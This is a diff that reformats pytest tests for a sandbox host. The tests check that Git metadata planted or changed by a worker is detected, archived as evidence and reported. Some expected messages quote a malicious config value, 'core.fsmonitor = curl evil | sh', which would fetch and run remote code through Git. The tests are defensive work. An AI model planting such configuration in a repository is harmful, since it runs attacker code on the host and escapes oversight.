@@ -27,6 +27,7 @@ def plant(world: HostWorld) -> object:
     def effect(_: FakeStart) -> None:
         world.fs.write(posixpath.join(WORKTREE, PLANTED, "config"), CONFIG)
         world.fs.write(posixpath.join(WORKTREE, PLANTED, "HEAD"), "ref: refs/heads/main\n")
+
     return effect
 
 
@@ -45,9 +46,11 @@ def test_created_git_metadata_is_moved_into_the_run_directory_and_told() -> None
         config = tar.extractfile(".git/config")
         assert config is not None and config.read().decode() == CONFIG
     detail = record.error.detail
-    assert (f"{PLANTED} is a Git repository the worker created; the next Git command there "
-            f'would run what it configures: core.fsmonitor = curl evil | sh; the host moved it '
-            f"out of the worktree, as evidence, into {archive}.") in detail, detail
+    assert (
+        f"{PLANTED} is a Git repository the worker created; the next Git command there "
+        f"would run what it configures: core.fsmonitor = curl evil | sh; the host moved it "
+        f"out of the worktree, as evidence, into {archive}."
+    ) in detail, detail
     assert "core.fsmonitor = curl evil | sh" in account(record)
 
 
@@ -65,9 +68,11 @@ def test_an_interrupted_run_leaves_the_worktree_as_it_found_it_and_says_so() -> 
     assert not world.fs.lexists(posixpath.join(record.run_directory, "planted-git"))
     detail = record.error.detail
     assert "core.fsmonitor = curl evil | sh" in detail, detail
-    assert (f"it is still in the worktree (the run was interrupted, and an interruption leaves "
-            f"the worktree as it found it): remove it before running Git there "
-            f"(rm -rf -- {WORKTREE}/{PLANTED})") in detail, detail
+    assert (
+        f"it is still in the worktree (the run was interrupted, and an interruption leaves "
+        f"the worktree as it found it): remove it before running Git there "
+        f"(rm -rf -- {WORKTREE}/{PLANTED})"
+    ) in detail, detail
 
 
 def test_git_metadata_that_was_there_before_the_run_stays() -> None:
@@ -75,16 +80,20 @@ def test_git_metadata_that_was_there_before_the_run_stays() -> None:
     world.fs.write(posixpath.join(WORKTREE, "src/app/lib/.git/config"), "[core]\n")
 
     def change(_: FakeStart) -> None:
-        world.fs.write(posixpath.join(WORKTREE, "src/app/lib/.git/config"),
-                       "[core]\n\thooksPath = /tmp/h\n")
+        world.fs.write(
+            posixpath.join(WORKTREE, "src/app/lib/.git/config"), "[core]\n\thooksPath = /tmp/h\n"
+        )
 
     record = world.run([Round.ok(ok_result(), effects=change)])
     assert record.error is not None and record.error.code == "audit_violation"
     assert world.fs.read_text(posixpath.join(WORKTREE, "src/app/lib/.git/config")).endswith(
-        "hooksPath = /tmp/h\n")
-    assert ("src/app/lib/.git is a Git repository the worker changed; the next Git command "
-            "there would run what it configures: core.hookspath = /tmp/h; it is still in the "
-            "worktree (it was there before the run)") in record.error.detail
+        "hooksPath = /tmp/h\n"
+    )
+    assert (
+        "src/app/lib/.git is a Git repository the worker changed; the next Git command "
+        "there would run what it configures: core.hookspath = /tmp/h; it is still in the "
+        "worktree (it was there before the run)"
+    ) in record.error.detail
 
 
 def test_a_move_that_fails_is_told_and_the_run_still_ends() -> None:
@@ -93,22 +102,28 @@ def test_a_move_that_fails_is_told_and_the_run_still_ends() -> None:
     record = world.run([Round.ok(ok_result(), effects=plant(world))])
     assert record.error is not None and record.error.code == "audit_violation"
     assert world.fs.lexists(posixpath.join(WORKTREE, PLANTED))
-    assert ("it is still in the worktree (the host could not move it: archive "
-            f"{WORKTREE}/{PLANTED}: No space left on device)") in record.error.detail
+    assert (
+        "it is still in the worktree (the host could not move it: archive "
+        f"{WORKTREE}/{PLANTED}: No space left on device)"
+    ) in record.error.detail
 
 
 # --- Git metadata found before the run (docs/decisions.md "Decision: Git metadata found before the run") ----
 
 
 @pytest.mark.req("Workers never see Git")
-@pytest.mark.parametrize(("place", "files", "refused"), [
-    ("src/app/x/.git", {"config": CONFIG}, True),  # a program its configuration names
-    ("src/app/x/.git", {"hooks/post-checkout": "#!/bin/sh\n"}, True),  # a hook
-    ("src/app/x/.git", {"hooks/pre-commit.sample": "#!/bin/sh\n", "config": "[core]\n"}, False),
-    ("docs/x/.git", {"config": CONFIG}, False),  # outside rw: no worker could have made it
-])
+@pytest.mark.parametrize(
+    ("place", "files", "refused"),
+    [
+        ("src/app/x/.git", {"config": CONFIG}, True),  # a program its configuration names
+        ("src/app/x/.git", {"hooks/post-checkout": "#!/bin/sh\n"}, True),  # a hook
+        ("src/app/x/.git", {"hooks/pre-commit.sample": "#!/bin/sh\n", "config": "[core]\n"}, False),
+        ("docs/x/.git", {"config": CONFIG}, False),  # outside rw: no worker could have made it
+    ],
+)
 def test_git_metadata_found_before_the_run_that_runs_a_program_in_rw_refuses_the_run(
-        place: str, files: dict[str, str], refused: bool) -> None:
+    place: str, files: dict[str, str], refused: bool
+) -> None:
     world = HostWorld()
     for name, text in {"HEAD": "ref: refs/heads/main\n", **files}.items():
         world.fs.write(posixpath.join(WORKTREE, place, name), text)
@@ -140,15 +155,15 @@ def test_the_planted_git_archives_hold_at_most_their_cap_and_say_what_they_left_
 
     record = world.run([Round.ok(ok_result(), effects=plant_big)])
     folder = posixpath.join(record.run_directory, "planted-git")
-    held = sum(world.fs.stat(posixpath.join(folder, e.name)).size
-               for e in world.fs.listdir(folder))
+    held = sum(world.fs.stat(posixpath.join(folder, e.name)).size for e in world.fs.listdir(folder))
     assert held <= PLANTED_GIT_CAP_BYTES
     for place in (PLANTED, "src/app/more0/.git"):  # every one gone from the worktree
         assert not world.fs.lexists(posixpath.join(WORKTREE, place))
     archive = posixpath.join(folder, "4.tar")  # src/app/x/.git is the fourth, by path
     with tarfile.open(fileobj=io.BytesIO(world.fs.read_bytes(archive))) as tar:
-        assert ".git/config" in tar.getnames() and ".git/objects/pack/big.pack" not in \
-            tar.getnames()
+        assert (
+            ".git/config" in tar.getnames() and ".git/objects/pack/big.pack" not in tar.getnames()
+        )
     assert record.error is not None
     assert (f"left out of its archive: 1 entry ({len(big)} bytes)") in record.error.detail
 
@@ -156,9 +171,18 @@ def test_the_planted_git_archives_hold_at_most_their_cap_and_say_what_they_left_
 def test_a_detail_describes_at_most_twenty_entries_and_counts_the_rest() -> None:
     from concorde_workers.domain.gitview.git_metadata import GitMetadata, describe_git_metadata
 
-    items = [GitMetadata(path=f"src/app/r{n:03}/.git", created=True, kind="directory",
-                         moved_to=f"/run/planted-git/{n}.tar") for n in range(250)]
+    items = [
+        GitMetadata(
+            path=f"src/app/r{n:03}/.git",
+            created=True,
+            kind="directory",
+            moved_to=f"/run/planted-git/{n}.tar",
+        )
+        for n in range(250)
+    ]
     detail = describe_git_metadata(items, WORKTREE)
     assert "src/app/r019/.git" in detail and "src/app/r020/.git" not in detail
-    assert detail.endswith("And 230 more Git metadata entries, each among the round's audit "
-                           "violations, handled the same way.")
+    assert detail.endswith(
+        "And 230 more Git metadata entries, each among the round's audit "
+        "violations, handled the same way."
+    )
